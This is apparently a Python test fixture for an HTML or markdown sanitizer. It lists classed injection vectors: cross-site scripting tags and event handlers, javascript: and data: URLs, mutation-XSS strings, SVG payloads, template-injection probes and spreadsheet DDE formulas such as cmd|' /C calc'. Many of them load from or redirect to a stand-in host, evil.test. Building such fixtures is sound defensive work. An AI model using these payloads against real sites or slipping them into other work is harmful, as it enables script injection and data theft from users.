"""Texts that try to run a script, load something or leave the page: our own, by class.

Each has a mark of its own in front, so that a test sees that it really stood on the page. `!` is
the call that would show that a script ran, `//evil.test/` a place that nobody may ask.
"""

from collections.abc import Iterator

RUN = "hit(1)"
CLASSES: dict[str, tuple[str, ...]] = {
    "tags": (
        "<script>!</script>",
        "<ScRiPt >!</sCrIpT>",
        "<script src=//evil.test/a.js></script>",
        "<script\n>!</script\n>",
        "</textarea><script>!</script>",
        "</title><script>!</script>",
        "</style><script>!</script>",
        "<<script>!//<</script>",
        "<iframe src=//evil.test/></iframe>",
        "<iframe srcdoc='<script>parent.!</script>'></iframe>",
        "<object data=//evil.test/></object>",
        "<embed src=//evil.test/>",
        "<base href=//evil.test/>",
        "<meta http-equiv=refresh content='0;url=//evil.test/'>",
        "<link rel=stylesheet href=//evil.test/a.css>",
        "<form action=//evil.test/><button>x</button></form>",
        "<template><script>!</script></template>",
        "<noscript><p title='</noscript><img src=x onerror=!>'>",
    ),
    "attributes": (
        "<img src=x onerror=!>",
        "<img src='x' OnErRoR='!'>",
        "<img/src=x/onerror=!>",
        "<img src=//evil.test/pixel>",
        "<img srcset='//evil.test/pixel 1x'>",
        "<body onload=!>",
        "<details open ontoggle=!>x</details>",
        "<input autofocus onfocus=!>",
        "<video><source onerror=!></video>",
        "<audio src=x onerror=!></audio>",
        "<p style='background:url(//evil.test/a)'>x</p>",
        "<div style=behavior:url(//evil.test/)>x</div>",
        '" autofocus onfocus=! x="',
        "' autofocus onfocus=! x='",
        '"><img src=x onerror=!>',
        "'><img src=x onerror=!>",
        "` onmouseover=! `",
        "<a href=# onclick=!>x</a>",
    ),
    "addresses": (
        "<a href='javascript:!'>x</a>",
        "<a href=' javascript:!'>x</a>",
        "<a href='java\tscript:!'>x</a>",
        "<a href='&#106;avascript:!'>x</a>",
        "<a href='data:text/html,<script>!</script>'>x</a>",
        "javascript:!",
        "<javascript:!>",
        "<data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=>",
    ),
    "markdown": (
        "[x](javascript:!)",
        "[x](JaVaScRiPt:!)",
        "[x](javascript&colon;!)",
        "[x](&#x6A;avascript:!)",
        "[x](java&Tab;script:!)",
        "[x](vbscript:!)",
        "[x](data:text/html,<script>!</script>)",
        "[x](//evil.test/a)",
        "[x](/\\evil.test/a)",
        "[x](\\\\evil.test/a)",
        "![x](//evil.test/pixel)",
        "![x](https://evil.test/pixel)",
        "![x](x 'onerror=!')",
        '[x](https://evil.test/"onclick="!)',
        "[x](https://evil.test/ 'a\" onclick=\"!')",
        "[x]: javascript:!\n\n[x]",
        '<https://evil.test/"onclick="!>',
        "**<img src=x onerror=!>**",
        "`<img src=x onerror=!>`",
        "- <img src=x onerror=!>",
        "> <script>!</script>",
        "[<img src=x onerror=!>](https://evil.test/)",
    ),
    "mutation": (
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src=x onerror=!&gt;'>",
        "<svg></p><style><a id='</style><img src=x onerror=!>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=!>",
        "<noembed><img title='</noembed><img src=x onerror=!>'></noembed>",
        "<!--><img src=x onerror=!>-->",
        "<!-- --!><img src=x onerror=!>",
        "<![CDATA[<img src=x onerror=!>]]>",
        "&lt;img src=x onerror=!&gt;",
        "&amp;lt;script&amp;gt;!&amp;lt;/script&amp;gt;",
        "\u003cimg src=x onerror=!\u003e",
        "＜script＞!＜/script＞",
        "<img src=x o\u200bnerror=!>",
    ),
    "svg": (
        "<svg onload=!></svg>",
        "<svg><script>!</script></svg>",
        "<svg><a xlink:href='javascript:!'><text>x</text></a></svg>",
        "<svg><use href='//evil.test/a.svg#x'/></svg>",
        "<svg><image href='//evil.test/pixel'/></svg>",
        "<svg><animate onbegin=! attributeName=x dur=1s></svg>",
        "<svg><foreignObject><iframe src=//evil.test/></foreignObject></svg>",
        "<svg><set attributeName=href to='javascript:!'/></svg>",
    ),
    "templates": (
        "{{ 7 * 7 }}{{ request.app }}",
        "{% raw %}{{ config }}{% endraw %}",
        "{%- include 'base.html' -%}",
        "${7*7}#{7*7}<%= 7*7 %>",
        "{{ ''.__class__.__mro__ }}",
        "%(num)s %s %d {0} {}",
    ),
    "formulas": (
        '=HYPERLINK("https://evil.test/","x")',
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
    ),
}


def marked() -> Iterator[tuple[str, str]]:
    """(mark, text) of every vector; the mark is the start of the text, but for formulas."""
    for name, texts in CLASSES.items():
        for number, text in enumerate(texts, 1):
            mark = f"{name}{number}z"
            yield mark, f"{mark} {text.replace('!', RUN)}"


def in_pieces(longest: int) -> list[str]:
    """All vectors, one a paragraph, in texts of at most so many characters."""
    pieces, now = [], ""
    for _, text in marked():
        if len(now) + len(text) + 2 > longest:
            pieces.append(now)
            now = ""
        now = f"{now}\n\n{text}" if now else text
    return [*pieces, now]
